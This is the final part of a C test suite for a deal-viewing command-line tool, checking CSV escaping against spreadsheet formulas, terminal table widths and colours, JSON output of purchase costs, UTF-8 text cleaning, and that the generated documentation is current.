            if (strchr("=+-@\t\r", cell[0]) != NULL)
                fail_msg("row %zu column %s starts a formula: %s", i, names[j], cell);
        }
    }
    char want_title[128];
    snprintf(want_title, sizeof(want_title), "'%s", evil);
    assert_string_equal(c.rows[1][col_title], want_title);

    /* Python's csv module reads the same cells. */
    char path[512];
    snprintf(path, sizeof(path), "%s/view.csv", kd_test_tmpdir());
    FILE *f = fopen(path, "wb");
    assert_non_null(f);
    fwrite(text, 1, len, f);
    fclose(f);
    const char *py = access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3";
    char cmd[1024];
    snprintf(cmd, sizeof(cmd),
             "%s -c 'import csv,sys\n"
             "rows=list(csv.reader(open(sys.argv[1],newline=\"\",encoding=\"utf-8\",errors="
             "\"strict\")))\n"
             "sys.stdout.buffer.write(\"\".join(\"%%d\\n\" %% len(r) + \"\".join(\"%%d:\" %% "
             "len(x.encode()) + x for x in r) for r in rows).encode())' %s",
             py, path);
    FILE *p = popen(cmd, "r");
    assert_non_null(p);
    size_t rows_seen = 0;
    for (size_t i = 0; i < c.n_rows; i++) {
        size_t cells;
        if (fscanf(p, "%zu\n", &cells) != 1)
            fail_msg("python read %zu rows, want %zu", i, c.n_rows);
        assert_int_equal(cells, c.n_cells[i]);
        for (size_t j = 0; j < cells; j++) {
            size_t bytes;
            assert_int_equal(fscanf(p, "%zu:", &bytes), 1);
            char *cell = malloc(bytes + 1);
            assert_int_equal(fread(cell, 1, bytes, p), bytes);
            cell[bytes] = '\0';
            if (strcmp(cell, c.rows[i][j]) != 0)
                fail_msg("row %zu cell %zu: python '%s', ours '%s'", i, j, cell, c.rows[i][j]);
            free(cell);
        }
        rows_seen++;
    }
    assert_int_equal(pclose(p), 0);
    assert_int_equal(rows_seen, N + 1);
    csv_free(&c);
    free(text);
    free(recs);
}

static void test_csv_cells(void **state)
{
    (void)state;
    static const struct {
        const char *in, *out;
    } cases[] = {
        {"plain", "plain"},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"=1+1", "\"'=1+1\""},
        {"+1", "\"'+1\""},
        {"-1 day", "\"'-1 day\""},
        {"@cmd", "\"'@cmd\""},
        {"\tx", "\"'\tx\""},
        {"\rx", "\"'\rx\""},
        {"=\"x\",y", "\"'=\"\"x\"\",y\""},
        {"line\nbreak", "\"line\nbreak\""},
        {"a=1", "a=1"},
        {"bad \xff", "bad \xEF\xBF\xBD"},
        {"", ""},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        char *buf = NULL;
        size_t len = 0;
        FILE *mem = open_memstream(&buf, &len);
        vw_csv_text(mem, cases[i].in);
        fclose(mem);
        assert_string_equal(buf, cases[i].out);
        free(buf);
    }
}

/* ---- the table ---- */

/* Terminal columns of a line by the C library's wcwidth (C.UTF-8), after dropping SGR codes. */
static int line_width(const char *line, size_t len)
{
    mbstate_t st;
    memset(&st, 0, sizeof(st));
    int w = 0;
    size_t i = 0;
    while (i < len) {
        if (line[i] == '\033' && i + 1 < len && line[i + 1] == ']') {
            /* OSC 8 hyperlink: up to its terminator ESC \. */
            i += 2;
            while (i + 1 < len && !(line[i] == '\033' && line[i + 1] == '\\'))
                i++;
            i += 2;
            continue;
        }
        if (line[i] == '\033') {
            while (i < len && line[i] != 'm')
                i++;
            i++;
            continue;
        }
        wchar_t wc;
        size_t n = mbrtowc(&wc, line + i, len - i, &st);
        if (n == (size_t)-1 || n == (size_t)-2)
            fail_msg("the table wrote invalid UTF-8: %.*s", (int)len, line);
        if (n == 0)
            n = 1;
        int cw = wcwidth(wc);
        if (cw < 0)
            fail_msg("the table wrote a control character (U+%04X)", (unsigned)wc);
        w += cw;
        i += n;
    }
    return w;
}

static char *strip_sgr(const char *s)
{
    char *out = malloc(strlen(s) + 1), *o = out;
    while (*s) {
        if (s[0] == '\033' && s[1] == ']') {
            s += 2;
            while (*s && !(s[0] == '\033' && s[1] == '\\'))
                s++;
            s += *s ? 2 : 0;
            continue;
        }
        if (*s == '\033') {
            while (*s && *s != 'm')
                s++;
            if (*s)
                s++;
            continue;
        }
        *o++ = *s++;
    }
    *o = '\0';
    return out;
}

static char *table_text(const struct st_record *recs, size_t n, int width, bool colour,
                        unsigned domain)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *mem = open_memstream(&buf, &len);
    assert_int_equal(vw_table_write(mem, recs, NULL, n, width, colour, domain, NOW_MS, NULL), 0);
    fclose(mem);
    return buf;
}

static void test_table_fits(void **state)
{
    (void)state;
    /* glibc carries C.UTF-8 built in: the measure is always there. */
    assert_non_null(setlocale(LC_CTYPE, "C.UTF-8"));
    enum { N = 300 };
    struct st_record *recs = random_records(N);
    /* Extreme figures must still fit their columns. */
    recs[0].v.priced = true;
    recs[0].v.profit_cents = -123456789;
    recs[0].v.roi_bp = 98765432;
    recs[0].v.buy_cents = 9999999999;
    recs[0].v.max_cost_cents = 123456789;
    recs[0].in.sales_rank = 987654321;
    recs[0].in.drops30 = 123456;
    recs[0].in.monthly_sold = 1234567;
    recs[0].in.offers_fba = 1234;
    recs[0].in.offers_fbm = 5678;
    recs[0].in.buy_seen_ms = 1;
    for (int width = VW_TABLE_MIN_WIDTH; width <= 200; width++) {
        for (unsigned domain = 0; domain <= 1; domain++) {
            char *text = table_text(recs, N, width, width % 3 == 0, domain);
            size_t lines = 0;
            for (char *line = text; *line;) {
                char *nl = strchr(line, '\n');
                assert_non_null(nl);
                int w = line_width(line, (size_t)(nl - line));
                if (w > width)
                    fail_msg("width %d: a line of %d columns:\n%.*s", width, w, (int)(nl - line),
                             line);
                assert_true(nl == line || nl[-1] != ' '); /* no trailing blanks */
                lines++;
                line = nl + 1;
            }
            assert_int_equal(lines, N + 1);
            free(text);
        }
    }
    /* 80 columns: the seller's columns, no title; wider: the title, then more. */
    char *t80 = table_text(recs, N, 80, false, 1);
    const char *want80[] = {"S",       "ASIN", "CND", "AMZ",  "BUY",   "PROFIT", "ROI%",
                            "MAXCOST", "RANK", "D30", "SOLD", "FBA/M", "AGE"};
    for (size_t i = 0; i < ARRAY_LEN(want80); i++)
        if (strstr(strtok(strdup(t80), "\n"), want80[i]) == NULL)
            fail_msg("no %s column at 80", want80[i]);
    assert_null(strstr(strtok(t80, "\n"), "TITLE"));
    free(t80);
    char *t140 = table_text(recs, N, 140, false, 1);
    char *head = strtok(t140, "\n");
    assert_non_null(strstr(head, "TITLE"));
    assert_non_null(strstr(head, "SELL"));
    assert_non_null(strstr(head, "CATEGORY"));
    assert_null(strstr(head, "MKT"));
    free(t140);
    char *mixed = table_text(recs, N, 80, false, 0);
    assert_non_null(strstr(mixed, "MKT"));
    free(mixed);

    /* Colour only adds SGR sequences; without it there are none. */
    char *plain = table_text(recs, N, 120, false, 0);
    char *coloured = table_text(recs, N, 120, true, 0);
    assert_null(strchr(plain, '\033'));
    assert_non_null(strchr(coloured, '\033'));
    /* On a terminal the ASIN links to the product page. */
    char link[128];
    snprintf(link, sizeof(link), "\033]8;;https://www.amazon.%s/dp/%s\033\\",
             jd_market(recs[0].domain)->tld, recs[0].asin);
    assert_non_null(strstr(coloured, link));
    char *stripped = strip_sgr(coloured);
    assert_string_equal(stripped, plain);
    free(stripped);
    free(plain);
    free(coloured);
    free(recs);
}

/*
 * A bought cost replaces the estimate: the outputs keep the estimate (profit_cents, the offer
 * it judged) and add the figures at the seller's cost, which the table shows instead.
 */
static void test_bought_at_cost(void **state)
{
    (void)state;
    struct jd_rules rules;
    jd_rules_default(&rules);
    struct st_record r;
    base_record(&r);
    r.in.fees_known = true;
    r.in.referral_bp = 1500;
    r.in.fba_fee_cents = 300;
    r.in.used_avg90_cents = 3000;
    r.in.used_cents = 1200;
    r.in.drops365 = 40;
    r.in.buy_source = JD_BUY_OFFER;
    r.in.buy_price_cents = 1200;
    r.in.buy_shipping_cents = 399;
    r.in.buy_seen_ms = NOW_MS - 3600000;
    jd_judge(&r.in, &rules, &r.v);
    r.mark = ST_MARK_BOUGHT;
    r.mark_ms = NOW_MS;
    r.bought_cost_cents = 900;
    r.bought_qty = 3;
    struct jd_verdict at;
    assert_true(vw_at_cost(&r, &rules, &at));
    assert_false(vw_at_cost(&r, NULL, &at));
    assert_int_equal(at.buy_cents, 900);
    /* Same sell side and fees; only the buy differs: 1600 - 900 = 700 cents more. */
    assert_int_equal(at.payout_cents, r.v.payout_cents);
    assert_int_equal(at.profit_cents - r.v.profit_cents, 1599 - 900);
    struct st_record none = r;
    none.bought_cost_cents = -1;
    assert_false(vw_at_cost(&none, &rules, &at));
    none = r;
    none.mark = ST_MARK_IGNORED;
    assert_false(vw_at_cost(&none, &rules, &at));
    assert_true(vw_at_cost(&r, &rules, &at));

    struct vw_out o = {.rules = &rules};
    size_t len;
    char *text = run_to_memory(vw_json_write, &r, 1, &o, &len);
    json_error_t jerr;
    json_t *doc = json_loadb(text, len, 0, &jerr);
    assert_non_null(doc);
    json_t *obj = json_array_get(doc, 0);
    assert_int_equal(json_integer_value(json_object_get(obj, "profit_cents")), r.v.profit_cents);
    assert_int_equal(json_integer_value(json_object_get(obj, "bought_cost_cents")), 900);
    assert_int_equal(json_integer_value(json_object_get(obj, "bought_qty")), 3);
    assert_int_equal(json_integer_value(json_object_get(obj, "bought_landed_cents")),
                     at.landed_cents);
    assert_int_equal(json_integer_value(json_object_get(obj, "bought_profit_cents")),
                     at.profit_cents);
    assert_int_equal(json_integer_value(json_object_get(obj, "bought_roi_bp")), at.roi_bp);
    assert_int_equal(json_integer_value(json_object_get(obj, "bought_total_profit_cents")),
                     3 * at.profit_cents);
    json_decref(doc);
    free(text);
    /* Not bought: the figures at cost are null. */
    text = run_to_memory(vw_json_write, &none, 1, &o, &len);
    doc = json_loadb(text, len, 0, &jerr);
    assert_true(json_is_null(json_object_get(json_array_get(doc, 0), "bought_profit_cents")));
    json_decref(doc);
    free(text);

    /* The table shows the cost as BUY, the profit at it, and "own" as the offer's age. */
    char *buf = NULL;
    size_t blen = 0;
    FILE *mem = open_memstream(&buf, &blen);
    assert_int_equal(vw_table_write(mem, &r, NULL, 1, 80, false, 1, NOW_MS, &o), 0);
    fclose(mem);
    char want_profit[32];
    jd_money(1, at.profit_cents, want_profit, sizeof(want_profit));
    char *row = strchr(buf, '\n') + 1;
    assert_non_null(strstr(row, " $9.00 "));
    assert_non_null(strstr(row, want_profit));
    assert_non_null(strstr(row, " own"));
    assert_non_null(strstr(row, "B B000000042"));
    free(buf);
    /* Without rules, the estimate. */
    buf = NULL;
    mem = open_memstream(&buf, &blen);
    assert_int_equal(vw_table_write(mem, &r, NULL, 1, 80, false, 1, NOW_MS, NULL), 0);
    fclose(mem);
    assert_non_null(strstr(buf, " $15.99 "));
    free(buf);
}

static void test_table_cells(void **state)
{
    (void)state;
    struct st_record r[3];
    base_record(&r[0]);
    r[0].in.buy_condition = 2;
    r[0].v.buy_cents = 1399;
    r[0].v.profit_cents = 565;
    r[0].v.roi_bp = 4809;
    r[0].v.max_cost_cents = 1450;
    r[0].in.sales_rank = 1234567;
    r[0].in.drops30 = 12;
    r[0].in.monthly_sold = 300;
    r[0].in.offers_fba = 3;
    r[0].in.offers_fbm = 7;
    r[0].in.buy_seen_ms = NOW_MS - 3 * 3600000;
    r[0].in.amazon_cents = 2599;
    r[1] = r[0];
    strcpy(r[1].asin, "B000000043");
    r[1].domain = 3;
    r[1].in.amazon_cents = -1;
    r[1].in.amazon_availability = -1;
    r[1].state = ST_STATE_REJECTED;
    r[1].v.profit_cents = -160;
    r[2] = r[0];
    strcpy(r[2].asin, "B000000044");
    r[2].domain = 5;
    r[2].v.buy_cents = 1500;
    r[2].v.profit_cents = 420;
    r[2].mark = ST_MARK_BOUGHT;
    char *text = table_text(r, 3, 120, false, 0);
    strtok(text, "\n"); /* the header */
    char *l1 = strtok(NULL, "\n"), *l2 = strtok(NULL, "\n"), *l3 = strtok(NULL, "\n");
    assert_non_null(l3);
    /* Dollars, the condition's short name, AMZ, FBA/FBM, sold, rank, drops, ROI, age. */
    assert_non_null(strstr(l1, "$13.99"));
    assert_non_null(strstr(l1, "$5.65"));
    assert_non_null(strstr(l1, "$14.50"));
    assert_non_null(strstr(l1, " LN "));
    assert_non_null(strstr(l1, " AMZ "));
    assert_non_null(strstr(l1, "48.1"));
    assert_non_null(strstr(l1, "1.2M"));
    assert_non_null(strstr(l1, " 3/7 "));
    assert_non_null(strstr(l1, " 300 "));
    assert_non_null(strstr(l1, " 3h"));
    assert_true(strncmp(l1, "com", 3) == 0);
    /* Euros and yen in their own currency; standing letters. */
    assert_non_null(strstr(l2, "-\xe2\x82\xac"
                               "1.60"));
    assert_null(strstr(l2, "AMZ"));
    assert_non_null(strstr(l2, " R "));
    assert_non_null(strstr(l3, "\xc2\xa5"
                               "1500"));
    assert_non_null(strstr(l3, " B "));
    free(text);
    /* Flags, at widths that show them; the seller's own cost has no offer age. */
    r[0].in.hazmat = 1;
    r[0].v.oversize = true;
    r[0].in.buy_source = JD_BUY_OWN_COST;
    text = table_text(r, 1, 200, false, 1);
    char *head = strtok(text, "\n"), *row = strtok(NULL, "\n");
    assert_non_null(strstr(head, "FLAG"));
    assert_non_null(strstr(head, "LINK"));
    assert_non_null(strstr(row, " HO "));
    assert_non_null(strstr(row, " own "));
    assert_non_null(strstr(row, "https://www.amazon.com/dp/B000000042"));
    free(text);
}

/* ---- text ---- */

static void test_text(void **state)
{
    (void)state;
    char out[64];
    assert_int_equal(vw_utf8_clean("ok \xc3\xa9", false, out, sizeof(out)), 5);
    assert_string_equal(out, "ok \xc3\xa9");
    vw_utf8_clean("\xc0\xaf \xed\xa0\x80 \xf4\x90\x80\x80 \xe2\x82", false, out, sizeof(out));
    assert_string_equal(out, "\xEF\xBF\xBD\xEF\xBF\xBD \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD "
                             "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD \xEF\xBF\xBD"
                             "\xEF\xBF\xBD");
    vw_utf8_clean("a\x1b[2Jb\x7f", true, out, sizeof(out));
    assert_string_equal(out, "a [2Jb ");
    /* Never a half character at the end of a full buffer. */
    vw_utf8_clean("\xc3\xa9\xc3\xa9", false, out, 4);
    assert_string_equal(out, "\xc3\xa9");
    assert_int_equal(vw_text_width("\xe6\x97\xa5\xe6\x9c\xac"), 4);
    assert_int_equal(vw_text_width("e\xcc\x81"), 1);
    assert_int_equal(vw_text_width("\xe2\x82\xac"
                                   "3.20"),
                     5);
    assert_int_equal(vw_text_fit("\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e", 4, out, sizeof(out)), 3);
    assert_string_equal(out, "\xe6\x97\xa5\xe2\x80\xa6");
    assert_int_equal(vw_text_fit("abcdef", 6, out, sizeof(out)), 6);
    assert_string_equal(out, "abcdef");
    assert_int_equal(vw_text_fit("abcdefg", 6, out, sizeof(out)), 6);
    assert_string_equal(out, "abcde\xe2\x80\xa6");
}

/* ---- docs ---- */

static void test_docs_are_current(void **state)
{
    (void)state;
    char path[1024];
    snprintf(path, sizeof(path), "%s/docs/view.md", KD_SOURCE_DIR);
    size_t len;
    char *text = kd_read_file(path, &len);
    assert_non_null(text);
    char *fresh = NULL;
    size_t fresh_len = 0;
    FILE *mem = open_memstream(&fresh, &fresh_len);
    assert_int_equal(vw_doc_refresh(text, mem), 0);
    fclose(mem);
    if (fresh_len != len || memcmp(fresh, text, len) != 0)
        fail_msg("docs/view.md is out of date: run build/kdeals-view-doc --update docs/view.md");
    /* Both generated parts are there, and name every key and every field. */
    for (size_t i = 0; vw_filter_key(i) != NULL; i++) {
        char want[64];
        snprintf(want, sizeof(want), "| `%s` |", vw_filter_key(i)->name);
        assert_non_null(strstr(text, want));
    }
    for (size_t i = 0; i < vw_field_count(); i++) {
        char want[64];
        snprintf(want, sizeof(want), "| `%s`", vw_field(i)->name);
        assert_non_null(strstr(text, want));
    }
    /* A BEGIN without its END is refused. */
    mem = open_memstream(&fresh, &fresh_len);
    assert_int_equal(vw_doc_refresh("x\n<!-- BEGIN GENERATED fields: x -->\nold\n", mem), -EINVAL);
    fclose(mem);
    free(fresh);
    free(text);
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_select_matches_reference),
        cmocka_unit_test(test_presets_match_reference),
        cmocka_unit_test(test_preset_errors),
        cmocka_unit_test(test_every_sort_and_paging),
        cmocka_unit_test(test_derived_figures),
        cmocka_unit_test(test_parse_errors_name_the_key),
        cmocka_unit_test(test_vocabulary_spellings),
        cmocka_unit_test(test_format_round_trip),
        cmocka_unit_test(test_time_iso),
        cmocka_unit_test(test_json_parses_back),
        cmocka_unit_test(test_real_record_json),
        cmocka_unit_test(test_csv_reads_back),
        cmocka_unit_test(test_csv_cells),
        cmocka_unit_test(test_table_fits),
        cmocka_unit_test(test_table_cells),
        cmocka_unit_test(test_bought_at_cost),
        cmocka_unit_test(test_text),
        cmocka_unit_test(test_docs_are_current),
    };
    return KD_RUN_TESTS(tests, argc, argv);
}
